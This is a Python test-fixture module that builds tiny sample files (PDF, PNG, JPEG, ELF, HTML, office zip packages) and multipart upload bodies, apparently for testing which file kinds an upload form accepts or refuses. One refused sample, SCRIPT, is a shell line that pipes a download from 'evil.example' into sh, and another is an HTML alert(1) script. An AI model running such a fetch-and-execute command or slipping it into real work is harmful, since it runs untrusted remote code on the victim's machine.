"""Small files of each kind a proposal takes, and some it refuses, built for the tests."""

import io
import zipfile

MIB = 1024 * 1024

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"
CSV = "name;count\nTapiola;12\nMatinkylä;3\n".encode()


def odf(mimetype: str = "application/vnd.oasis.opendocument.text") -> bytes:
    """An OpenDocument package: its mimetype entry first, stored, as the standard says."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        package.writestr("content.xml", "<office:document-content/>")
        package.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return buffer.getvalue()


def ooxml(main_part: str = "word/document.xml") -> bytes:
    """An Office Open XML package with its content types and main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("_rels/.rels", "<Relationships/>")
        package.writestr(main_part, "<document/>")
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("run.sh", "echo hello")
    return buffer.getvalue()


BOUNDARY = "kokeilu-test-boundary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def multipart(data: bytes, name: str, field: str = "file", **fields: str) -> bytes:
    """A multipart/form-data body as a browser sends it: the file part, then the other fields.

    Written out here, rather than by the test client, so that its bytes stay in memory (the
    client spools a large body to a temporary file that nothing closes) and the file's name
    arrives exactly as given (the client drops backslashes).
    """
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; '
        f'filename="{quoted}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
        + data
        + b"\r\n"
    ]
    for key, value in fields.items():
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
            f"{value}\r\n".encode()
        )
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()
